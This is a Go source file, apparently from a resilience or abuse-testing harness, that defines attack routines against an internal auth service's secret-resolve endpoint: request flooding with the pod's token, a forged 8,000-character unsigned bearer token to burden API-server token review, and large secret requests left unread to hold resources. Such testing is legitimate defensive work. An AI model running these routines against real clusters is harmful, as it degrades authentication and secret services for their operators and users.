package main

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"strconv"
	"strings"
	"sync"
	"time"
)

// requestFor is the body of a request for references by name. It is made once: the attacker's processor is for sending
// it.
func requestFor(references map[string]string) func() []byte {
	return sync.OnceValue(func() []byte {
		body, err := json.Marshal(map[string]any{"references": references})
		if err != nil {
			panic(err) // strings can be marshalled
		}
		return body
	})
}

// repeated are names with a number, each with its reference.
func repeated(count int, name, reference string) map[string]string {
	references := make(map[string]string, count)
	for i := range count {
		references[fmt.Sprintf(name, i)] = strings.ReplaceAll(reference, "N", strconv.Itoa(i))
	}
	return references
}

// askAuthService sends a request to the auth service with the pod's own token.
func (a *attacker) askAuthService(ctx context.Context, body []byte) (*http.Response, error) {
	request, err := http.NewRequestWithContext(ctx, http.MethodPost, "https://"+a.address("auth-service")+"/v1/resolve",
		bytes.NewReader(body))
	if err != nil {
		return nil, err
	}
	request.Header.Set("Authorization", "Bearer "+a.token)
	request.Header.Set("Content-Type", "application/json")
	return a.client.Do(request)
}

// withoutToken sends a token that nobody signed, so that each request costs the API server a review.
func withoutToken(ctx context.Context, a *attacker) string {
	forged := &attacker{host: a.host, controller: a.controller, client: a.client,
		token: "a." + strings.Repeat("b", 8000) + ".c"}
	return outcome(forged.askAuthService(ctx,
		[]byte(`{"references":{"A":"db@azurekeyvault"}}`))) //nolint:bodyclose // outcome closes it
}

// asking sends one request again and again.
func asking(references map[string]string) attack {
	body := requestFor(references)
	return func(ctx context.Context, a *attacker) string {
		return outcome(a.askAuthService(ctx, body())) //nolint:bodyclose // outcome closes it
	}
}

// unread asks for 5 MB that it may have, and leaves the answer unread for a while.
func unread() attack {
	body := requestFor(repeated(200, "BIG_%d", "big@azurekeyvault"))
	return func(ctx context.Context, a *attacker) string {
		response, err := a.askAuthService(ctx, body())
		if err != nil {
			return "failed"
		}
		defer func() { _ = response.Body.Close() }()
		select {
		case <-time.After(10 * time.Second):
		case <-ctx.Done():
		}
		return fmt.Sprint("unread ", response.StatusCode)
	}
}
